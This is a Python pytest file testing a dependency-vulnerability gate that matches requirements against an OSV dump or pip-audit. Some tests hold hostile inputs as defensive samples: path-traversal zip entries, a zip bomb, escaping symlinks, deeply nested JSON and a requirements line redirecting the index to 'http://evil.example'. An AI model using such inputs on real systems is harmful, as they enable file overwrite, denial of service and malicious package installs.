"""Requirements are matched against a dump of OSV's database."""

from __future__ import annotations

import json
import stat
import sys
import zipfile
from datetime import UTC, datetime, timedelta

import pytest

from trackbook.errors import Misused
from trackbook.gates import Gate, ask, gates
from trackbook.gates.cvss import base_score, grade_of

CHECK = "deps.vulns"
TODAY = datetime.now(UTC).isoformat()


def entry(name="jinja2", of="GHSA-aaaa", events=None, **more):
    stretch = {
        "type": "ECOSYSTEM",
        "events": events or [{"introduced": "0"}, {"fixed": "3.1.3"}],
    }
    about = {"package": {"ecosystem": "PyPI", "name": name}, "ranges": [stretch]}
    return {
        "id": of, "modified": TODAY, "aliases": ["CVE-2024-22195"], "affected": [about],
        "database_specific": {"severity": "MODERATE"},
    } | more  # fmt: skip


@pytest.fixture
def found(packed, judged, tmp_path):
    """Ask for vulnerabilities of pins, by a dump of some entries."""

    def ask_one(pins, *entries, packed_as="folder", **keys):
        packed.write("environment/requirements.txt", "\n".join(pins) + "\n")
        place = tmp_path / "osv"
        place.mkdir(exist_ok=True)
        for at, one in enumerate(entries):
            text = one if isinstance(one, str) else json.dumps(one)
            (place / f"{at}.json").write_text(text)
        if packed_as == "zip":
            with zipfile.ZipFile(tmp_path / "all.zip", "w", zipfile.ZIP_DEFLATED) as made:
                for file in place.iterdir():
                    made.write(file, file.name)
            place = tmp_path / "all.zip"
        return judged(CHECK, keys={"database": place.name, **keys}, folder=tmp_path)

    return ask_one


@pytest.mark.parametrize("packed_as", ["folder", "zip"])
def test_a_version_that_is_known_to_be_vulnerable_fails(found, packed_as) -> None:
    bad = found(["Jinja2==3.1.2"], entry(), packed_as=packed_as)
    assert (bad.outcome, bad.blocks) == ("failed", True), bad.words
    assert "jinja2 3.1.2: GHSA-aaaa (medium, CVE-2024-22195, mended in 3.1.3)" in bad.words
    good = found(["Jinja2==3.1.3", "numpy==2.0"], entry(), packed_as=packed_as)
    assert (good.outcome, good.words) == (
        "passed",
        "nothing is known against 2 requirements",
    )
    assert json.loads(good.evidence)["entries"] == 1


@pytest.mark.parametrize(
    ("events", "hit", "clear"),
    [
        ([{"introduced": "0"}, {"fixed": "2.0"}], ["0", "0.dev1", "1.9", "2.0rc1", "1.9+cpu"], ["2.0", "2.0+cpu"]),
        ([{"introduced": "1.0"}, {"last_affected": "1.5"}], ["1.0", "1.5", "1.5+cpu"], ["0.9", "1.5.1"]),
        ([{"introduced": "3"}, {"fixed": "4"}, {"introduced": "1"}, {"fixed": "2"}], ["1.5", "3.2"], ["2.5", "4", "0.1"]),
        ([{"introduced": "1.0"}], ["1.0", "99"], ["0.9"]),
        ([{"introduced": "0"}, {"limit": "*"}], ["5"], []),
        ([{"introduced": "0"}, {"fixed": "not a version"}], ["5"], []),
    ],
)  # fmt: skip
def test_stretches_of_versions_are_read_as_osv_means_them(
    found, events, hit, clear
) -> None:
    for version in hit:
        assert found([f"jinja2=={version}"], entry(events=events)).outcome == "failed", (
            version
        )
    for version in clear:
        assert found([f"jinja2=={version}"], entry(events=events)).outcome == "passed", (
            version
        )


def test_versions_by_name_other_ecosystems_and_withdrawn_entries(found) -> None:
    about = {"package": {"ecosystem": "PyPI", "name": "Jinja2"}, "versions": ["3.1.2"]}
    assert found(["jinja2==3.1.2"], entry(affected=[about])).outcome == "failed"
    assert found(["jinja2==3.1"], entry(affected=[about])).outcome == "passed"
    other = about | {"package": {"ecosystem": "npm", "name": "jinja2"}}
    assert found(["jinja2==3.1.2"], entry(affected=[other])).outcome == "passed"
    gone = entry(affected=[about], withdrawn=TODAY)
    assert found(["jinja2==3.1.2"], gone).outcome == "passed"
    commits = about | {
        "versions": [],
        "ranges": [{"type": "GIT", "events": [{"introduced": "0"}]}],
    }
    assert found(["jinja2==3.1.2"], entry(affected=[commits])).outcome == "passed"


def test_two_names_of_one_thing_are_one(found) -> None:
    twin = entry(of="PYSEC-2024-1", database_specific=None, aliases=["GHSA-aaaa"])
    bad = found(["jinja2==3.1.2"], entry(), twin)
    assert json.loads(bad.value) == 1
    (one,) = json.loads(bad.evidence)["found"]
    assert set(one["ids"]) == {"GHSA-aaaa", "CVE-2024-22195", "PYSEC-2024-1"}


def test_what_is_ignored_has_a_reason_and_is_told(found) -> None:
    by_alias = found(
        ["jinja2==3.1.2"], entry(), ignore=["CVE-2024-22195: no template is rendered"]
    )
    assert (by_alias.outcome, "1 ignored" in by_alias.words) == ("passed", True)
    assert json.loads(by_alias.evidence)["ignored"] == {
        "GHSA-aaaa": "no template is rendered"
    }


def test_slight_ones_may_be_let_by_and_unknown_ones_may_not(found) -> None:
    keys = {"min_severity": "high"}
    assert found(["jinja2==3.1.2"], entry(), **keys).outcome == "passed"
    vector = [{"type": "CVSS_V3", "score": "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H"}]
    assert found(
        ["jinja2==3.1.2"], entry(severity=vector, database_specific=None), **keys
    ).blocks
    unknown = found(["jinja2==3.1.2"], entry(database_specific=None), **keys)
    assert (unknown.outcome, "gravity not known" in unknown.words) == ("failed", True)


def test_an_old_database_and_what_is_not_pinned_are_told(found) -> None:
    old = (datetime.now(UTC) - timedelta(days=90)).isoformat()
    told = found(["numpy==1.0", "pandas>2"], entry(modified=old))
    assert (told.outcome, "the database is 90 days old" in told.words) == ("passed", True)
    assert "not pinned, so not looked up: pandas>2" in told.words
    assert (
        "days old" not in found(["numpy==1.0"], entry(modified=old), max_age_days=99).words
    )


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("{", "is no entry of OSV's"),
        ("[]", "is no entry of OSV's"),
        ('{"affected": []}', "is no entry of OSV's"),
        ('{"id": "x", "affected": [{"versions": [1]}]}', "is no entry of OSV's"),
        ('{"id": "x", "database_specific": ' + "[" * 100_000 + "]" * 100_000 + "}", "is no entry"),
        ('{"id": "\udc80"}'.encode("utf-8", "surrogateescape").decode("latin-1"), "nothing is known"),
        (" " * 10_000_001, "is larger than 10 MB"),
    ],
)  # fmt: skip
def test_a_broken_dump_is_an_error_in_words(found, text, says) -> None:
    told = found(["numpy==1.0"], text)
    assert says in told.words, told.words
    assert told.blocks == (told.outcome == "errored")


def test_a_hostile_archive_writes_nothing_and_is_refused(packed, judged, tmp_path) -> None:
    def ask_one():
        return judged(CHECK, keys={"database": "all.zip"}, folder=tmp_path)

    (tmp_path / "all.zip").write_bytes(b"PK\x03\x04 and no more")
    assert "cannot read the database" in ask_one().words
    before = sorted(tmp_path.rglob("*"))
    with zipfile.ZipFile(tmp_path / "all.zip", "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("../../escaped.json", json.dumps(entry()))
        made.writestr(str(tmp_path.parent / "escaped.json"), json.dumps(entry(of="GHSA-b")))
    assert ask_one().outcome == "passed"
    assert sorted(tmp_path.rglob("*")) == before
    assert not (tmp_path.parent / "escaped.json").exists()
    with zipfile.ZipFile(tmp_path / "all.zip", "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("bomb.json", b" " * 200_000_000)
    told = ask_one()
    assert (told.outcome, "is larger than 10 MB" in told.words) == ("errored", True)


def test_links_in_a_folder_are_not_followed(found, tmp_path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "x.json").write_text("not JSON")
    (tmp_path / "osv").mkdir()
    (tmp_path / "osv" / "link.json").symlink_to(outside / "x.json")
    (tmp_path / "osv" / "below").symlink_to(outside)
    assert found(["numpy==1.0"], entry()).outcome == "passed"


def test_what_is_not_there_is_said(judged, packed, tmp_path) -> None:
    assert judged(CHECK).words.startswith("no database of vulnerabilities was given")
    assert (judged(CHECK).outcome, judged(CHECK).blocks) == ("skipped", False)
    gone = judged(CHECK, keys={"database": "none.zip"}, folder=tmp_path)
    assert (gone.outcome, gone.blocks, "there is no database" in gone.words) == (
        "errored",
        True,
        True,
    )
    (tmp_path / "empty").mkdir()
    assert (
        "holds no entries"
        in judged(CHECK, keys={"database": "empty"}, folder=tmp_path).words
    )
    (packed.folder / "environment/requirements.txt").unlink()
    assert judged(CHECK).words == "the package has no requirements"


AUDIT = """#!{python}
import json, sys, time
rows = open(sys.argv[sys.argv.index("--requirement") + 1]).read().split()
{body}
"""
VULN = '{"id": "PYSEC-1", "fix_versions": ["1.2"], "aliases": ["CVE-1"]}'


@pytest.mark.parametrize(
    ("body", "outcome", "says"),
    [
        (f'print(json.dumps({{"dependencies": [{{"name": "numpy", "version": "1.0", "vulns": [{VULN}]}}]}})); sys.exit(1)',
         "failed", "numpy 1.0: PYSEC-1 (gravity not known, CVE-1, mended in 1.2)"),
        ('assert rows == ["numpy==1.0"]; print(json.dumps({"dependencies": [{"name": "numpy", "version": "1.0", "vulns": []}]}))',
         "passed", "nothing is known"),
        ('print(json.dumps({"dependencies": [{"name": "numpy", "skip_reason": "not found"}]}))', "errored", "did not look at all: numpy"),
        ('sys.exit("no network")', "errored", "gave no answer: no network"),
        ("time.sleep(60)", "errored", "gave no answer within"),
    ],
)  # fmt: skip
def test_pip_audit_is_asked_where_it_is_installed(
    packed, judged, tmp_path, monkeypatch, body, outcome, says
) -> None:
    """A stand-in for the program: the real one asks the network."""
    text = "--index-url http://evil.example\nnumpy==1.0\n"
    packed.write("environment/requirements.txt", text)
    program = tmp_path / "bin" / "pip-audit"
    program.parent.mkdir()
    program.write_text(AUDIT.format(python=sys.executable, body=body))
    program.chmod(program.stat().st_mode | stat.S_IEXEC)
    monkeypatch.setenv("PATH", str(program.parent))
    found = judged(CHECK, keys={"use_pip_audit": True, "time_limit": "3s"})
    assert (found.outcome, says in found.words) == (outcome, True), found.words


def test_without_pip_audit_it_is_skipped(judged, monkeypatch, tmp_path) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))
    found = judged(CHECK, keys={"use_pip_audit": True})
    assert (found.outcome, "pip install pip-audit" in found.words) == ("skipped", True)


@pytest.mark.parametrize(
    ("vector", "score", "grade"),
    # FIRST's examples, https://www.first.org/cvss/v3.1/examples
    [
        ("CVSS:3.0/AV:N/AC:L/PR:L/UI:N/S:C/C:L/I:L/A:N", 6.4, "medium"),
        ("CVSS:3.0/AV:N/AC:H/PR:N/UI:R/S:U/C:L/I:N/A:N", 3.1, "low"),
        ("CVSS:3.0/AV:L/AC:L/PR:N/UI:R/S:U/C:H/I:H/A:H", 7.8, "high"),
        ("CVSS:3.0/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N", 7.5, "high"),
        ("CVSS:3.0/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H", 9.8, "critical"),
        ("CVSS:3.0/AV:N/AC:L/PR:L/UI:N/S:C/C:H/I:H/A:H", 9.9, "critical"),
        ("CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:C/C:L/I:L/A:N", 6.1, "medium"),
        ("CVSS:3.1/AV:P/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:N", 0.0, "low"),
    ],
)
def test_scores_are_those_of_the_specification(vector, score, grade) -> None:
    assert (base_score(vector), grade_of(base_score(vector))) == (score, grade)


@pytest.mark.parametrize(
    "vector", ["", "AV:N/AC:L/Au:N/C:P/I:P/A:P", "CVSS:4.0/AV:N", "CVSS:3.1/AV:X"]
)
def test_another_vector_has_no_score(vector) -> None:
    assert base_score(vector) is None


@pytest.mark.parametrize(
    ("keys", "says"),
    [
        ({"ignore": ["GHSA-1"]}, "says no reason"),
        ({"ignore": ["GHSA-1: "]}, "says no reason"),
        ({"database": "x", "use_pip_audit": True}, "either a database or pip-audit"),
        ({"min_severity": "hihg"}, "did you mean 'high'"),
        ({"max_age_days": -1.0}, "above 0"),
    ],
)
def test_what_cannot_be_searched_for_is_refused(keys, says) -> None:
    with pytest.raises(Misused) as told:
        gates(Gate("a", [ask(CHECK, **keys)]))
    assert says in str(told.value)
